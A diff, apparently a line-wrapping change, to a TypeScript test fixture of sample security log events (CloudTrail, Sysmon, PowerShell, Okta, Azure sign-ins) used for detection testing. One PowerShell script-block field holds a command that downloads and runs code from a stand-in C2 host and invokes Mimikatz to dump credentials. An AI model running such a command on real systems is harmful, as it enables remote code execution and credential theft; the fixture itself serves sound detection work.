@@ -92,7 +92,10 @@ const CLOUDTRAIL: Readonly<Record<string, Event>> = {
   'cloudtrail PutBucketPolicy': cloudTrail('s3.amazonaws.com', 'PutBucketPolicy', {
     requestParameters: {
       bucketName: 'logs',
-      bucketPolicy: { Version: '2012-10-17', Statement: [{ Effect: 'Allow', Principal: '*', Action: 's3:GetObject' }] },
+      bucketPolicy: {
+        Version: '2012-10-17',
+        Statement: [{ Effect: 'Allow', Principal: '*', Action: 's3:GetObject' }],
+      },
     },
   }),
   'cloudtrail AttachUserPolicy of the administrator': cloudTrail('iam.amazonaws.com', 'AttachUserPolicy', {
@@ -162,7 +165,8 @@ const WINDOWS: Readonly<Record<string, Event>> = {
     Company: 'Microsoft Corporation',
     Description: 'Windows PowerShell',
     Product: 'Microsoft® Windows® Operating System',
-    Hashes: 'SHA1=0000000000000000000000000000000000000001,MD5=00000000000000000000000000000001,IMPHASH=00000000000000000000000000000002',
+    Hashes:
+      'SHA1=0000000000000000000000000000000000000001,MD5=00000000000000000000000000000001,IMPHASH=00000000000000000000000000000002',
   }),
   'sysmon 1 shadow copies deleted': sysmon(1, {
     Image: 'C:\\Windows\\System32\\vssadmin.exe',
@@ -295,7 +299,8 @@ const WINDOWS: Readonly<Record<string, Event>> = {
     {
       MessageNumber: 1,
       MessageTotal: 1,
-      ScriptBlockText: "IEX (New-Object Net.WebClient).DownloadString('http://c2.example.net/a'); Invoke-Mimikatz -DumpCreds",
+      ScriptBlockText:
+        "IEX (New-Object Net.WebClient).DownloadString('http://c2.example.net/a'); Invoke-Mimikatz -DumpCreds",
       ScriptBlockId: '00000000-0000-4000-8000-000000000003',
       Path: '',
     },
@@ -310,7 +315,13 @@ const CLOUDS: Readonly<Record<string, Event>> = {
     displayMessage: 'Reset factor for user',
     uuid: '00000000-0000-4000-8000-000000000004',
     published: '2026-03-01T09:12:44.123Z',
-    actor: { id: '00u1', type: 'User', alternateId: 'dana@example.org', displayName: 'Dana', detailEntry: null },
+    actor: {
+      id: '00u1',
+      type: 'User',
+      alternateId: 'dana@example.org',
+      displayName: 'Dana',
+      detailEntry: null,
+    },
     client: {
       userAgent: { rawUserAgent: 'Mozilla/5.0', os: 'Windows 10', browser: 'CHROME' },
       zone: 'null',
@@ -321,7 +332,9 @@ const CLOUDS: Readonly<Record<string, Event>> = {
     },
     authenticationContext: { externalSessionId: 'x1', authenticationProvider: null },
     outcome: { result: 'SUCCESS', reason: 'User reset SMS_FACTOR factor' },
-    target: [{ id: '00u2', type: 'User', alternateId: 'erin@example.org', displayName: 'Erin', detailEntry: null }],
+    target: [
+      { id: '00u2', type: 'User', alternateId: 'erin@example.org', displayName: 'Erin', detailEntry: null },
+    ],
     debugContext: { debugData: { requestUri: '/api/v1/users/00u2/factors' } },
     securityContext: { asNumber: 64500, asOrg: 'example', isp: 'example', domain: null, isProxy: false },
   },
@@ -366,7 +379,10 @@ const CLOUDS: Readonly<Record<string, Event>> = {
       isInteractive: true,
       riskLevelDuringSignIn: 'none',
       riskState: 'none',
-      status: { errorCode: 50126, failureReason: 'Error validating credentials due to invalid username or password.' },
+      status: {
+        errorCode: 50126,
+        failureReason: 'Error validating credentials due to invalid username or password.',
+      },
       deviceDetail: { deviceId: '', operatingSystem: 'Windows 10', browser: 'Chrome' },
       location: { city: 'Berlin', countryOrRegion: 'DE' },
       authenticationRequirement: 'singleFactorAuthentication',
